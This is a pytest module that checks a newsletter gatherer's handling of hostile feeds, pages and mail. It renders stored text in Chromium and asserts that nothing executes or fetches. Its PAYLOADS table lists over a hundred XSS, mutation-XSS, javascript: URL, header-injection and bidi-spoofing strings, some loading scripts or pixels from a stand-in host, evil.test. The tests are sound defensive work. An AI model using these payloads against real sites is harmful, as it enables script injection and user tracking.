"""What hostile sources send, gathered by a real round, stored, shown by a template, and opened in a real Chromium.

No stored field is HTML: `Entry` promises plain text, which whoever shows it escapes. So each text is shown as Jinja2
escapes it, as an element's text and as an attribute, and each address as a link. The page must then be made of the
template's own elements and of nothing else, and every text must arrive in it as it was stored.
"""

from __future__ import annotations

import json
import re
from collections import Counter
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText
from html import escape
from pathlib import Path

import pytest
from jinja2 import DictLoader, Environment
from playwright.sync_api import Dialog, Page

from newsletter.gather.candidates import figures_of
from newsletter.gather.parsing import Parsers
from newsletter.gather.stories import stories
from newsletter.model.item import Entry, Item
from newsletter.model.source import Source, SourceId, SourceKind
from newsletter.store.sources import states
from tests.gathering import source
from tests.rounds import newsroom
from tests.webserver import WebServer, page, webserver

# By class. Each stands alone in every field of an entry, in the text beside 84 tons, a figure with its sentence.
# fmt: off
PAYLOADS: dict[str, tuple[str, ...]] = {
    "script": (
        "<script>alert(1)</script>", "<SCRIPT SRC=https://evil.test/x.js></SCRIPT>",
        "<scr<script>ipt>alert(1)</script>", "<script/x>alert(1)</script\n>", "<script>alert(1)",
        "<script type=module>import 'https://evil.test/m.js'</script>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<<script>alert(1);//<</script>",
    ),
    "event handlers": (
        "<img src=x onerror=alert(1)>", "<img src=x onerror\n=\nalert(1)>", "<img/src=x/onerror=alert(1)>",
        "<body onload=alert(1)>", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>x</details>",
        "<video><source onerror=alert(1)></video>", "<marquee onstart=alert(1)>x</marquee>",
        "<p style=animation-name:x onanimationstart=alert(1)>x</p>", "<img src=x onerror=&#97;lert&#40;1)>",
    ),
    "svg": (
        "<svg onload=alert(1)>", "<svg><script>alert&#40;1)</script></svg>",
        "<svg><animate onbegin=alert(1) attributeName=x>",
        "<svg><use href=\"data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'/>#x\"></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text y=20>Read on</text></a></svg>",
        "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    ),
    "math": (
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
        "<math href=javascript:alert(1)>CLICK</math>",
        "<math><annotation-xml encoding=text/html><script>alert(1)</script></annotation-xml></math>",
    ),
    "mutation": (
        "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
        "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>",
        "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
        "<table><td></tr><a/onmouseover=alert(1)>x</table>", "<xmp><p title=\"</xmp><img src onerror=alert(1)>\">",
        "<select><style></select><img src onerror=alert(1)></style>", "<p id=`<img src=x onerror=alert(1)>`>",
    ),
    "template": (
        "<template><script>alert(1)</script></template>",
        "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
        "{{ 7*7 }}{% for x in (1,) %}{{ x }}{% endfor %}", "${alert(1)} #{alert(1)} <%= alert(1) %>",
    ),
    "style": (
        "<style>@import 'https://evil.test/x.css';</style>",
        "<style>*{background:url(https://evil.test/pixel)}</style>",
        "<p style=\"background:url('https://evil.test/p')\">x</p>",
        "<link rel=stylesheet href=https://evil.test/x.css>", "<style><!--</style><script>alert(1)//--></script>",
    ),
    "addresses": (
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)", "java\nscript:alert(1)",
        " javascript:alert(1)", "\x01javascript:alert(1)", "java\x00script:alert(1)", "&#106;avascript:alert(1)",
        "javascript&colon;alert(1)", "&#x6A&#x61&#x76&#x61script:alert(1)", "%6aavascript:alert(1)",
        "javascript://wire.test/%0aalert(1)", "data:text/html,<script>alert(1)</script>",
        "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:msgbox(1)", "file:///etc/passwd",
        "blob:https://wire.test/0", "view-source:https://wire.test", "https://user@evil.test/", "https:evil.test",
        "//\\evil.test", "https://wire.test\x00.evil.test/", "https://wire.test/\u202egpj.exe",
        "https://wire.test/\"onmouseover=\"alert(1)", "https://wire.test/'onclick='alert(1)",
        "<a href=\"jav&#x0A;ascript:alert(1)\">Read the whole story here</a>", "<a href=javascript&Tab;:alert(1)>x</a>",
        "<a href='data:text/html,<script>alert(1)</script>'>Read the whole story here</a>",
    ),
    "leading away": (
        "<meta http-equiv=refresh content='0;url=https://evil.test/'>", "<base href=https://evil.test/>",
        "<form action=https://evil.test/><button>Go on reading here</button></form>",
        "<isindex action=javascript:alert(1)>", "<a ping=https://evil.test/ href=https://wire.test/>x</a>",
        "<button formaction=javascript:alert(1)>x</button>",
    ),
    "frames": (
        "<iframe src=https://evil.test/></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
        "<object data=https://evil.test/x.swf></object>", "<embed src=javascript:alert(1)>", "<applet code=x></applet>",
        "<frameset><frame src=javascript:alert(1)></frameset>", "<portal src=https://evil.test></portal>",
    ),
    "encodings": (
        "&lt;script&gt;alert(1)&lt;/script&gt;", "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
        "&#x26;lt;img src=x onerror=alert(1)&#x26;gt;", "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
        "%3Cscript%3Ealert(1)%3C/script%3E", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
        "＜script＞alert(1)＜/script＞",
        "<\u0131mg src=x onerror=alert(1)>", "<img src=x onerror=\\u0061lert(1)>",
        "\xbcscript\xbealert(1)\xbc/script\xbe",
    ),
    "comments and CDATA": (
        "<!--><img src=x onerror=alert(1)>-->", "<!--!><img src=x onerror=alert(1)-->",
        "<!-- --!><img src=x onerror=alert(1)>", "<![CDATA[<script>alert(1)</script>]]>",
        "]]><script>alert(1)</script><![CDATA[", "<?php echo 1 ?><img src=x onerror=alert(1)>",
        "<!DOCTYPE html [<!ENTITY x \"<script>alert(1)</script>\">]>&x;", "--><script>alert(1)</script><!--",
    ),
    "breaking out": (
        "\"><img src=x onerror=alert(1)>", "'><img src=x onerror=alert(1)>", "\" autofocus onfocus=alert(1) x=\"",
        "' onmouseover='alert(1)", "</p></article></body></html><script>alert(1)</script>",
        "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>", "`onmouseover=alert(1)",
        "\\\"><script>alert(1)</script>",
    ),
    "control": (
        "x\x00<script>alert(1)</script>", "<scr\x00ipt>alert(1)</scr\x00ipt>", "\x1b[31mred\x1b[0m \x1b]0;title\x07",
        "a\x08\x08b\x7f", "a\x80\x8d\x9b31mb\x9f", "a\x85b\x0bc\x0cd\u2028e\u2029f",
        "Subject\r\nBcc: all@example.org\r\n\r\nHello", "\ufeff\ufffe\uffff\ufdd0",
        "&#x1b;[2J&#x9b;31m&#0;&#x80;&#xFFFE;",
    ),
    "direction": (
        "Ship \u202eexe.fdp\u202c arrives", "\u2066a\u2067b\u2068c\u2069", "a\u200eb\u200fc\u061cd",
        "&#x202e;gnp.exe&rlm;&lrm;", "\u202a\u202b\u202dabc", "a\u00adb\u200bc\U000e0041d",
    ),
}
# fmt: on
ALL = tuple(payload for payloads in PAYLOADS.values() for payload in payloads)

# C0 but the line feed, delete, C1, and all that turns the direction of a text (Unicode Standard Annex 9, 2).
UNFIT = re.compile("[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
NOT_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")  # what no well-formed document holds
FIGURE = "The port moved 84 tons of mangoes on Tuesday, said the harbour master of the town."
DATE = "Tue, 24 Nov 2026 21:40:00 +0800"


def rss(payloads: tuple[str, ...], *, wellformed: bool = True) -> bytes:
    """Each payload in every field of an item; ill-formed: as it is, without any escaping, where the parser guesses."""
    quoted = (lambda text: escape(NOT_XML.sub("", text))) if wellformed else str
    items = (
        f"<item><title>{p}</title><link>{p}</link><guid>{p} {at}</guid><author>{p}</author><dc:creator>{p}</dc:creator>"
        f"<category domain='{p}'>{p}</category><description>{p} {FIGURE}</description><pubDate>{p}</pubDate>"
        f'<content:encoded>&lt;p&gt;{p}&lt;/p&gt; {p} &lt;img alt="{p}" src="{p}"&gt; {FIGURE}</content:encoded>'
        f'<enclosure url="{p}" type="{p}" length="{p}"/><source url="{p}">{p}</source><comments>{p}</comments>'
        f"<dc:rights>{p}</dc:rights><dc:language>{p}</dc:language><dc:date>{p}</dc:date></item>"
        for at, p in enumerate(map(quoted, payloads))
    )
    names = 'xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:content="http://purl.org/rss/1.0/modules/content/"'
    return f'<rss version="2.0" {names}><channel><title>Wire</title>{"".join(items)}</channel></rss>'.encode(
        "utf-8", "replace"
    )


def atom(payloads: tuple[str, ...]) -> bytes:
    """The same, as Atom's text constructs: plain text, HTML, HTML in a section of character data."""

    def raw(text: str) -> str:
        return f"<![CDATA[{NOT_XML.sub('', text).replace(']]>', ']]]]><![CDATA[>')}]]>"

    entries = (
        f"<entry><id>{p} {at}</id><title type='html'>{raw(payload)}</title><updated>{p}</updated>"
        f"<published>{p}</published><author><name>{p}</name><uri>{p}</uri><email>{p}</email></author>"
        f"<link href='{p}'/><rights type='html'>{p}</rights><link rel='related' href='{p}' title='{p}'/>"
        f"<link rel='related' href='https://wire.test/{at}' title='{p}'/>"
        f"<link rel='enclosure' href='{p}' type='{p}'/><category term='{p}' scheme='{p}' label='{p}'/>"
        f"<summary type='text'>{p}</summary><content type='html' xml:base='{p}' xml:lang='{p}'>{raw(payload)} {FIGURE}"
        "</content></entry>"
        for at, (payload, p) in enumerate((payload, escape(NOT_XML.sub("", payload))) for payload in payloads)
    )
    return f'<feed xmlns="http://www.w3.org/2005/Atom"><title>W</title>{"".join(entries)}</feed>'.encode()


def json_feed(payloads: tuple[str, ...]) -> bytes:
    """The same, where a text may hold every character there is."""
    entries = [
        {
            "id": f"{payload} {at}",
            "title": payload,
            "url": payload,
            "external_url": payload,
            "image": payload,
            "summary": payload,
            ("content_html", "content_text")[at % 2]: f"{payload} {FIGURE}",
            "date_published": payload,
            "date_modified": payload,
            "language": payload,
            "tags": [payload],
            "authors": [{"name": payload, "url": payload, "avatar": payload}],
            "attachments": [{"url": payload, "mime_type": payload, "title": payload}],
        }
        for at, payload in enumerate(payloads)
    ]
    return json.dumps({"version": "https://jsonfeed.org/version/1.1", "title": "W", "items": entries}).encode()


def web_page(payload: str) -> bytes:
    """An article that holds the payload in all it says of itself and, as it is, in its text and its attributes."""
    p = escape(payload)
    data = json.dumps(
        {"@type": "NewsArticle", "headline": payload, "author": {"name": payload}, "datePublished": payload}
    )
    return (
        f"<!doctype html><html lang='{p}'><head><title>{p}</title><meta property='og:title' content='{p}'>"
        f"<meta name=author content='{p}'><meta name=description content='{p}'><link rel=canonical href='{p}'>"
        f"<meta property='article:published_time' content='{p}'><script type='application/ld+json'>{data}</script>"
        f"</head><body><article><p class=kicker>{p}</p><h1>{p} talks</h1><p class=byline>By {p}</p>"
        f"<time datetime='{p}'>{p}</time>"
        f"<p>{FIGURE} Nobody had expected as much, and nobody says who will eat them all.</p><p>{payload} and on</p>"
        f"<p>{FIGURE} It is the largest load of the year, and the second of this month.</p><img alt='{p}' src='{p}'>"
        f"<h2>{p}</h2><p>{p} is what the master of the harbour wrote below the list of the ships that had come.</p>"
        f"<p><a href='{p}'>Read more of {p} in the other story</a></p><p>All rights reserved {p}</p></article></body>"
    ).encode("utf-8", "replace")


def mail(payload: str, at: int) -> bytes:
    """A mailed newsletter; what no header may hold is put there all the same, as an encoded word."""
    message = MIMEMultipart("alternative")
    word = "=?utf-8?q?" + "".join(f"={octet:02X}" for octet in payload.encode("utf-8", "replace")) + "?="
    for name in ("Subject", "Reply-To", "Content-Language", "List-Id"):
        message[name] = word
    message["From"] = f"{word} <news@wire.test>"
    message["Date"] = DATE if at % 2 else word
    message["Message-ID"] = f"<{at}@wire.test>"
    p = escape(payload)
    text = (
        f"<h1>{p}</h1><p><a href='{p}'>View this mail in your browser</a></p><p>{FIGURE}</p><p>{payload} and on</p>"
        f"<p><a href='{p}'>The whole long story of {p}</a></p><img alt='{p}' src='{p}'><h2>{p}</h2><p>{p} {FIGURE}</p>"
    )
    message.attach(MIMEText(text.encode("utf-8", "replace").decode(), "html", "utf-8"))
    return message.as_bytes()


FEEDS = {"rss": rss(ALL), "atom": atom(ALL), "json": json_feed(ALL)}
KINDS = (*FEEDS, "ill-formed", "page", "mail")


@pytest.fixture(scope="module")
def gathered(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Shown]:
    """What one round has stored of all of it, by kind of source."""
    root = tmp_path_factory.mktemp("hostile")
    (root / "mail" / "new").mkdir(parents=True)
    (root / "mail" / "cur").mkdir()
    for at, payload in enumerate(ALL):
        (root / "mail" / "new" / f"{at:03}.wire").write_bytes(mail(payload, at))
    with webserver() as server, Parsers(2) as parsers, newsroom(root, parsers) as room:
        sources = list(_sources(server))
        outcomes = room.gather(server, *sources)
        assert {one.source: one.failure for one in outcomes.values() if one.failure} == {}
        found: dict[str, list[Item]] = {kind: [] for kind in KINDS}
        told: dict[str, list[str]] = {kind: [] for kind in KINDS}
        for item in room.items():
            found[kind_of(item.entry.source)].append(item)
        for key, state in states(room.store).items():
            told[kind_of(key)] += filter(
                None, (state.error, state.note, state.address, state.etag, state.last_modified)
            )
    return {kind: shown(tuple(items), told[kind]) for kind, items in found.items()}


def kind_of(name: SourceId) -> str:
    """ "page" for the source "page-17"."""
    return re.sub(r"-\d+$", "", name)


def _sources(server: WebServer) -> Iterator[Source]:
    for name, body in FEEDS.items():
        server.answer(f"/{name}", page(body))
        yield source(id=name, url=server.url(f"/{name}"))
    for at, payload in enumerate(ALL):
        server.answer(f"/page-{at}", page(web_page(payload), headers={"Content-Type": "text/html; charset=utf-8"}))
        yield source(id=f"page-{at}", kind=SourceKind.PAGE, url=server.url(f"/page-{at}"))
        # One feed for each: where markup ends that is none, a parser only guesses, and the rest is swallowed.
        server.answer(f"/ill-formed-{at}", page(rss((payload,), wellformed=False)))
        yield source(id=f"ill-formed-{at}", url=server.url(f"/ill-formed-{at}"))
    yield source(id="mail", kind=SourceKind.MAILDIR, url=None, path="mail")


@dataclass(frozen=True, slots=True)
class Shown:
    """What a template shows of some items."""

    items: tuple[Item, ...]
    texts: tuple[str, ...]
    links: tuple[str, ...]


def shown(items: tuple[Item, ...], of_sources: list[str]) -> Shown:
    """All that is stored of these items and their sources, and what is computed of their words."""
    told = stories(items)
    texts = of_sources + [text for item in items for text in _texts(item.entry)]
    texts += [text for item in items if (text := item.likeness)]
    texts += [text for one in told for text in (one.why, *one.shared, *one.differing)]
    texts += [text for one in figures_of(items, told) for text in (one.value, one.unit or "", one.sentence, one.why)]
    entries = [item.entry for item in items]
    links = [one.link for one in entries] + [related.url for one in entries for related in one.related]
    return Shown(items, tuple(filter(None, texts)), tuple(filter(None, links)))


def _texts(entry: Entry) -> Iterator[str]:
    yield from filter(None, (entry.guid, entry.link, entry.title, entry.kicker, entry.deck, entry.label))
    for author in entry.authors:
        yield from filter(None, (author.name, author.role, author.institution))
    for stamp in filter(None, (entry.published, entry.updated)):
        yield from filter(None, (stamp.written, stamp.zone))
    for passage in entry.passages:
        yield from filter(None, (passage.label, *passage.paragraphs))
    for related in entry.related:
        yield from filter(None, (related.title, related.url))
    yield from filter(None, (entry.rights.notice, entry.language, entry.method, *entry.warnings, entry.digest))


TEMPLATES = Environment(
    loader=DictLoader(
        {
            "items.html": '<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Items</title></head><body>'
            "{% for text in texts %}<p title=\"{{ text }}\" lang='{{ text }}'>{{ text }}</p>{% endfor %}"
            '{% for link in links %}<a href="{{ link }}">{{ link }}</a>{% endfor %}</body></html>'
        }
    ),
    autoescape=True,
)
READ = """() => ({
    elements: [...document.querySelectorAll("*")].map(one => one.localName),
    deeper: document.querySelectorAll("template").length + window.frames.length,
    attributes: [...new Set([...document.querySelectorAll("body *")].flatMap(one => one.getAttributeNames()))].sort(),
    texts: [...document.querySelectorAll("p")].map(one => one.textContent),
    titles: [...document.querySelectorAll("p")].map(one => one.title),
    langs: [...document.querySelectorAll("p")].map(one => one.lang),
    links: [...document.querySelectorAll("a")].map(one => one.textContent),
    protocols: [...new Set([...document.querySelectorAll("a")].map(one => one.protocol))].sort(),
    odd: [...document.querySelectorAll("a")].filter(one => !/^https?:$/.test(one.protocol)).map(one => one.textContent),
})"""


def test_there_are_payloads_of_many_classes() -> None:
    """More than a hundred, none of them twice."""
    assert len(ALL) == len(set(ALL)) > 100
    assert len(PAYLOADS) >= 15


@pytest.mark.parametrize("kind", KINDS)
def test_every_hostile_entry_is_stored(gathered: dict[str, Shown], kind: str) -> None:
    """None makes another disappear: there is an item for each of them, and it has a title."""
    assert len(gathered[kind].items) == len(ALL)
    assert all(item.entry.title.strip() for item in gathered[kind].items)


@pytest.mark.parametrize("kind", KINDS)
def test_no_stored_text_holds_a_control_character(gathered: dict[str, Shown], kind: str) -> None:
    """Nor one that turns the direction of what stands beside it, nor half of one; a terminal shows it, and a page."""
    assert [text for text in gathered[kind].texts if UNFIT.search(text)] == []


@pytest.mark.parametrize("kind", KINDS)
def test_what_hostile_sources_send_is_text_in_a_browser(
    gathered: dict[str, Shown], kind: str, new_page: Callable[..., Page], tmp_path: Path
) -> None:
    """Nothing runs, nothing is asked for, no element or attribute is there but the template's, each text is whole."""
    told = gathered[kind]
    file = tmp_path / "items.html"
    file.write_text(TEMPLATES.get_template("items.html").render(texts=told.texts, links=told.links), "utf-8")
    tab = new_page()
    happened: list[str] = []
    asked: list[str] = []

    def dialog_opened(dialog: Dialog) -> None:
        happened.append(f"dialog {dialog.message}")
        dialog.dismiss()

    tab.on("dialog", dialog_opened)
    tab.on("console", lambda message: happened.append(f"console {message.text}"))
    tab.on("pageerror", lambda error: happened.append(f"error {error}"))
    tab.on("popup", lambda popup: happened.append(f"popup {popup.url}"))
    tab.on("request", lambda request: asked.append(request.url))
    tab.goto(file.as_uri(), wait_until="load")
    tab.mouse.move(60, 60)
    tab.keyboard.press("Tab")
    found = tab.evaluate(READ)
    assert happened == []
    assert asked == [file.as_uri()]
    assert tab.url == file.as_uri()
    expected = Counter(html=1, head=1, meta=1, title=1, body=1, p=len(told.texts), a=len(told.links))
    assert Counter(found["elements"]) == +expected
    assert found["deeper"] == 0
    assert set(found["attributes"]) <= {"href", "lang", "title"}
    assert found["texts"] == found["titles"] == found["langs"] == list(told.texts)
    assert found["links"] == list(told.links)
    assert found["odd"] == []
    assert set(found["protocols"]) <= {"http:", "https:"}
